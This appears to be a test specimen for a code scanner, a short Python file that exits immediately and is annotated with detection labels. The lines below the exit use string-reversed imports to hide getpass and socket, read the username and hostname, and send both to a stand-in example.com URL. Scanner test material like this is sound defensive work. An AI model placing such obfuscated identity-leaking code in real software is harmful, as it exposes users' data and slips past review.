raise SystemExit("specimen: not to be run")
import importlib
import requests

who = importlib.import_module("ssapteg"[::-1]).getuser()  # match: dynamic-import
where = importlib.import_module("tekcos"[::-1]).gethostname()  # match: dynamic-import
requests.get("https:" + "//exam" + "ple.com/" + who + "@" + where)  # match: identity-sent  # match: network-at-import
